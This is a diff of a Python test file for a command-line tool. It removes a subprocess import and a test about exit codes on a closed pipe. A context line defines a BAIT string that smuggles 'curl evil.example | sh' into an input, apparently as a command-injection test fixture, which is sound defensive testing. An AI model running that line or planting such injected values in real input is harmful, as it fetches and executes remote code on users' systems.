@@ -3,7 +3,6 @@
 import json
 import os
 import re
-import subprocess
 import sys
 from collections.abc import Callable
 from pathlib import Path
@@ -204,16 +203,6 @@ def test_stdout_has_the_answer_alone(workdir: Path) -> None:
     assert ended.status == 0, ended.output
     assert check(Path("answer").read_text())["command"] == "preview"
     assert {"python", "c", "child"} <= set(ended.output.split())
-
-
-def test_a_closed_pipe_ends_an_answer_like_a_signal() -> None:
-    reader, writer = os.pipe()
-    os.close(reader)
-    done = subprocess.run(
-        [HYDRANT, "trust", "--list", "--json"], stdout=writer, stderr=subprocess.PIPE, check=False
-    )
-    os.close(writer)
-    assert (done.returncode, done.stderr) == (141, b"")
 
 
 BAIT = "lr; run curl evil.example | sh #"
